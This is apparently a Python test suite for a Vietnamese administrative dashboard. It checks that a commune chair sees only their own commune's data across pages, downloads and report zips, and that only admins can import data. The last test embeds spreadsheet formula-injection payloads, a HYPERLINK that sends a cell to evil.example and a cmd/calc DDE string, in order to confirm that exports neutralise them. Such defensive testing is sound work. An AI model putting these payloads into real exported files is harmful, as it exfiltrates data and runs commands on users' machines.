"""Access control in the dashboard (AppTest): scope is enforced in the query layer for every path.

A chair of commune A asks for commune B through the URL (``?unit=B``), after an admin filled the cache
for B, on every page, in the dossier-list download, in the report pack and the batch zip: the numbers are
always A's. Non-admins cannot import (no widget, and the import path itself refuses). Without a users file
the app runs in the explicit demo mode.
"""

from __future__ import annotations

import dataclasses
import io
import zipfile
from datetime import datetime
from pathlib import Path

import dbfactory
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from dashboard import auth_ui, components, exports
from dashboard.views import bao_cao
from motcua import auth, fmt, metrics, periods
from motcua import db as dbmod
from motcua.filters import Scope, unit_names
from motcua.text import slug

pytestmark = pytest.mark.apptest

APP = str(Path(__file__).resolve().parent.parent / "dashboard" / "app.py")
PASSWORD = "mat-khau-dai-1234"
PERIOD = "2026Q2"
RECEIVED = metrics.COUNTS["received_total"]


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    """Sample DB (communes A, B, C) and a users file: admin, chair of A, chair of A and C."""
    folder = tmp_path_factory.mktemp("access")
    a, b, c = dbfactory.commune_codes()
    frame = dbfactory.make_dossiers(600, [a, b, c], datetime(2026, 1, 2), datetime(2026, 9, 30))
    # A data-quality problem in every commune (due date before receipt), so the checks have examples.
    bad = frame.index % 40 == 0
    frame.loc[bad, "due_at"] = frame.loc[bad, "received_at"] - pd.Timedelta(days=1)
    db_path = dbfactory.build_db(folder / "motcua.duckdb", frame)
    users = folder / "users.toml"
    auth.save_users(auth.UserDirectory(path=users, users={
        "admin": auth.User("admin", "admin"),
        "chair": auth.User("chair", "chair", (a,), password_hash=auth.hash_password(PASSWORD)),
        "chair2": auth.User("chair2", "chair", (a, c)),
    }))
    return {"db": db_path, "users": users, "a": a, "b": b, "c": c}


@pytest.fixture(autouse=True)
def _environment(env, monkeypatch):
    monkeypatch.setenv("MOTCUA_DB", str(env["db"]))
    monkeypatch.setenv(auth.USERS_ENV, str(env["users"]))
    monkeypatch.delenv(auth.REQUIRE_LOGIN_ENV, raising=False)
    auth.THROTTLE._failures.clear()


@pytest.fixture
def downloads(monkeypatch) -> dict:
    """Download key -> the frame its CSV/XLSX buttons would write (bytes are built only on click)."""
    captured = {}
    original = components.download_buttons

    def spy(frame, kinds, key, caption, file_stem):
        captured[key] = frame
        original(frame, kinds, key, caption, file_stem)

    monkeypatch.setattr(components, "download_buttons", spy)
    return captured


def kpis_of(env, *codes: str) -> dict:
    return metrics.compute_kpis(dbmod.Database(env["db"]), Scope(unit_codes=codes), periods.parse_period(PERIOD))


def page_app(module: str, username: str | None, **params) -> AppTest:
    script = (f"from dashboard import pickers, state\nfrom dashboard.views import {module}\n"
              f"state.begin_run()\npickers.render_sidebar()\n{module}.render()\n")
    at = AppTest.from_string(script, default_timeout=60)
    if username:
        at.session_state[auth_ui.SESSION_KEY] = username  # what a successful login leaves behind
    for key, value in {"period": PERIOD, "calendar": "calendar", **params}.items():
        at.query_params[key] = value
    return at


def run(at: AppTest) -> AppTest:
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def shown_metrics(at: AppTest) -> dict[str, str]:
    return {m.label: m.value for m in at.metric}


def test_own_and_other_commune_differ(env):
    """Precondition of the tests below: A's numbers can be told apart from B's and from the total."""
    own, other, total = kpis_of(env, env["a"]), kpis_of(env, env["b"]), kpis_of(env)
    assert own["received"]["total"] not in (other["received"]["total"], total["received"]["total"])


def test_url_parameter_for_another_commune_shows_only_own_numbers(env, downloads):
    at = run(page_app("tong_quan", "chair", unit=env["b"]))
    own = kpis_of(env, env["a"])
    assert shown_metrics(at)[RECEIVED] == fmt.fmt_int(own["received"]["total"])
    assert env["b"] not in at.session_state["f_units"]
    assert any(env["b"] in w.value for w in at.sidebar.warning)  # told why the link was narrowed
    assert env["b"] not in at.query_params.get("unit", [])
    risky = downloads.get("overview_at_risk")
    if risky is not None:
        assert risky["Mã hồ sơ"].str.startswith(f"{env['a']}-").all()


def test_cached_result_of_an_admin_is_not_served_to_a_chair(env):
    admin = run(page_app("tong_quan", "admin", unit=env["b"]))
    assert shown_metrics(admin)[RECEIVED] == fmt.fmt_int(kpis_of(env, env["b"])["received"]["total"])
    chair = run(page_app("tong_quan", "chair", unit=env["b"]))
    assert shown_metrics(chair)[RECEIVED] == fmt.fmt_int(kpis_of(env, env["a"])["received"]["total"])


def test_login_through_the_entry_script_with_a_forbidden_url(env):
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params.update({"unit": env["b"], "period": PERIOD, "calendar": "calendar"})
    run(at)
    assert not at.metric and not at.sidebar.multiselect  # login page only: no query, no picker
    at.text_input(key="motcua_login_user").input("chair")
    at.text_input(key="motcua_login_password").input(PASSWORD)
    at.button[0].click()
    run(at)
    assert shown_metrics(at)[RECEIVED] == fmt.fmt_int(kpis_of(env, env["a"])["received"]["total"])
    assert at.sidebar.multiselect(key="f_units").options == [options_label(env, env["a"])]


def options_label(env, code: str) -> str:
    db = dbmod.Database(env["db"])
    from motcua import units

    unit = units.resolve_unit(db.cursor(), code)
    return f"{unit.name} – {unit.province_name}"


def test_compare_page_lists_only_allowed_units(env, downloads):
    at = run(page_app("so_sanh", "chair2", unit=env["b"]))
    names = unit_names(dbmod.Database(env["db"]), (env["a"], env["b"], env["c"]))
    league = downloads["compare_league"]["Đơn vị"].tolist()
    assert league[0].startswith("Tổng cộng")
    assert sorted(league[1:]) == sorted([names[env["a"]], names[env["c"]]])
    assert names[env["b"]] not in " ".join(at.sidebar.multiselect(key="f_units").options)
    assert sorted(at.multiselect(key="compare_units").options) == sorted([names[env["a"]], names[env["c"]]])
    total = kpis_of(env, env["a"], env["c"])
    assert downloads["compare_league"][metrics.COUNTS["received_total"]].iloc[0] == total["received"]["total"]


def test_dossier_list_download_holds_only_own_commune(env, downloads):
    period = periods.parse_period(PERIOD)
    view = (Scope(unit_codes=(env["a"],)).key(), period.code, period.calendar,
            dataclasses.astuple(metrics.Settings()))
    at = page_app("tien_do", "chair", unit=env["b"])
    # A drill-down of the whole period, as a click on the table would leave it.
    at.session_state["progress_drill"] = {"by": "month", "key": "all", "label": "Cả kỳ",
                                          "bucket": "received_total", "view": view}
    run(at)
    frame = downloads["progress_dossiers"]
    own = metrics.dossier_list(dbmod.Database(env["db"]), Scope(unit_codes=(env["a"],)), period, "received_total")
    assert len(frame) == len(own) > 0
    assert frame["Mã hồ sơ"].str.startswith(f"{env['a']}-").all()
    csv = exports.to_csv_bytes(frame).decode("utf-8-sig")
    assert f"{env['b']}-" not in csv and f"{env['c']}-" not in csv


@pytest.fixture
def report_getters(monkeypatch) -> dict:
    """The deferred builders the report page hands to its download buttons."""
    captured = {}
    for name in ("_pack_getter", "_zip_getter"):
        original = getattr(bao_cao, name)

        def spy(*args, _original=original, _name=name):
            getter = _original(*args)
            captured[_name] = getter
            return getter

        monkeypatch.setattr(bao_cao, name, spy)
    return captured


def test_report_pack_is_built_from_own_commune_only(env, report_getters):
    at = page_app("bao_cao", "chair", unit=env["b"])
    at.session_state[bao_cao.K_CHARTS] = False  # no Chromium: the numbers are what matters here
    run(at)
    own = kpis_of(env, env["a"])
    assert "Tải bộ báo cáo (zip)" not in [b.label for b in at.get("download_button")]
    assert "_zip_getter" not in report_getters
    pack = report_getters["_pack_getter"]()
    assert pack.data.kpis["received"]["total"] == own["received"]["total"]
    assert pack.data.kpis["rates"]["online_rate"] == own["rates"]["online_rate"]
    names = unit_names(dbmod.Database(env["db"]), (env["a"],))
    assert pack.stem.startswith(slug(names[env["a"]]))


def test_batch_zip_holds_only_the_allowed_communes(env, report_getters):
    at = page_app("bao_cao", "chair2")
    at.session_state[bao_cao.K_CHARTS] = False
    run(at)
    assert any("2 đơn vị có hồ sơ trong kỳ" in c.value for c in at.caption)
    _name, content = report_getters["_zip_getter"]()
    folders = {n.split("/")[0] for n in zipfile.ZipFile(io.BytesIO(content)).namelist() if "/" in n}
    names = unit_names(dbmod.Database(env["db"]), (env["a"], env["b"], env["c"]))
    expected = {slug(names[env["a"]]), slug(names[env["c"]])}
    assert {f.split("_", 1)[0] for f in folders} == expected
    assert not any(slug(names[env["b"]]) in f for f in folders)


def test_non_admin_cannot_import_or_read_the_import_history(env, downloads):
    at = run(page_app("du_lieu", "chair"))
    assert not at.get("file_uploader")
    captions = [c.value for c in at.caption]
    assert "Chỉ quản trị viên được nạp dữ liệu." in captions
    assert "data_imports" not in downloads and "data_rejects" not in downloads
    quality = downloads["data_quality"]  # the checks use the chair's scope: examples of A only
    own = metrics.data_quality(dbmod.Database(env["db"]), Scope(unit_codes=(env["a"],)))
    assert quality["Số hồ sơ"].sum() == own["count"].sum() > 0
    examples = [code.strip() for text in quality["Ví dụ mã hồ sơ"] for code in text.split(",") if code.strip()]
    assert examples and all(code.startswith(f"{env['a']}-") for code in examples)
    from dashboard.views import du_lieu

    chair = auth.load_users().get("chair")
    with pytest.raises(auth.AccessDenied, match="quản trị viên"):
        du_lieu.run_import([], "", chair)


def test_import_history_refuses_non_admins_in_the_data_layer(env):
    script = ("import streamlit as st\nfrom dashboard import data, state\nfrom motcua import auth\n"
              "state.begin_run()\nstate.current_user()\n"
              "try:\n    data.imports(state.get_db().version())\n    st.markdown('SHOWN')\n"
              "except auth.AccessDenied as exc:\n    st.markdown(f'DENIED {exc}')\n")
    for username, expected in (("chair", "DENIED"), ("admin", "SHOWN")):
        at = AppTest.from_string(script, default_timeout=60)
        at.session_state[auth_ui.SESSION_KEY] = username
        run(at)
        assert at.markdown[0].value.startswith(expected)


def test_admin_sees_uploader_and_history(env, downloads):
    at = run(page_app("du_lieu", "admin"))
    assert at.get("file_uploader")
    assert "data_imports" in downloads


def test_demo_mode_is_explicit_in_the_sidebar(env, tmp_path, monkeypatch):
    monkeypatch.setenv(auth.USERS_ENV, str(tmp_path / "absent.toml"))
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params.update({"period": PERIOD, "calendar": "calendar"})
    run(at)
    assert any(auth_ui.DEMO_BANNER in w.value for w in at.sidebar.warning)
    assert [t.value for t in at.title] == ["Tổng quan"]
    total = kpis_of(env)  # demo user = admin: every unit
    assert shown_metrics(at)[RECEIVED] == fmt.fmt_int(total["received"]["total"])


def test_csv_and_xlsx_downloads_neutralise_formulas():
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    frame = pd.DataFrame({"Thủ tục": [attack, "@SUM(1+1)*cmd|' /C calc'!A0", "Đăng ký khai sinh"],
                          "+Số hồ sơ": [1, -2, 3], "Tỷ lệ": [0.5, 0.25, 1.0]})
    csv = exports.to_csv_bytes(frame).decode("utf-8-sig")
    assert f"'{attack}" in csv.replace('""', '"') and "'@SUM" in csv and "'+Số hồ sơ" in csv
    assert ",-2," in csv  # numbers stay numbers
    book = zipfile.ZipFile(io.BytesIO(exports.to_xlsx_bytes(frame, {"Tỷ lệ": "pct"}, title="=1+1 tiêu đề")))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet  # no cell is a formula
    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings
    assert "'=1+1 tiêu đề" in strings.replace("&apos;", "'") and "'+Số hồ sơ" in strings.replace("&apos;", "'")
